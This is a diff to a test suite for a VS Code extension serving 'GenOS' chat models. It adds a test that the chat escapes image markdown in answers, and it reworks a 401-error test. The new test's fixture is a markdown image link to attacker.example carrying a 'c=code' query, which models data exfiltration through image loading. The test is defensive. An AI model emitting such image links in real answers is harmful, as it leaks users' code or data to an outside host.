@@ -84,6 +84,13 @@ describe(`GenOS models in VS Code's own chat (VS Code ${target})`, () => {
     assert.equal(body.tools, undefined);
   });
 
+  it('hands the chat images in an answer as links, which its renderer does not load', async () => {
+    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
+    server.chatQueue.push({ type: 'stream', content: ['요약 !', '[도표](https://attacker.example/p.png?c=code) 끝'] });
+    const answer = await ask(model, '요약해 줘');
+    assert.equal(answer.text, '요약 \\![도표](https://attacker.example/p.png?c=code) 끝');
+  });
+
   it('closes the connection when the request is cancelled, and the server sees it', async () => {
     const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
     server.chatQueue.push({ type: 'stream', content: Array.from({ length: 200 }, (_, i) => `조각${i} `), delayMs: 50 });
@@ -106,12 +113,9 @@ describe(`GenOS models in VS Code's own chat (VS Code ${target})`, () => {
 
   it('turns a 401 into the panel\'s clear message', async () => {
     const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
-    await confirmToken('a-wrong-token');
-    try {
-      await assert.rejects(ask(model, 'hello'), /did not accept the access token \(401\)|인증키를 받아들이지/);
-    } finally {
-      await confirmToken('native-chat-token');
-    }
+    // The token is refused at the request (a changed token would also empty the model list).
+    server.chatQueue.push({ type: 'status', status: 401, body: JSON.stringify({ error: { message: 'invalid token' } }) });
+    await assert.rejects(ask(model, 'hello'), /did not accept the access token \(401\)|인증키를 받아들이지/);
   });
 
   it('passes the chat\'s tools to GenOS and returns its tool calls as tool-call parts with parsed arguments', async () => {
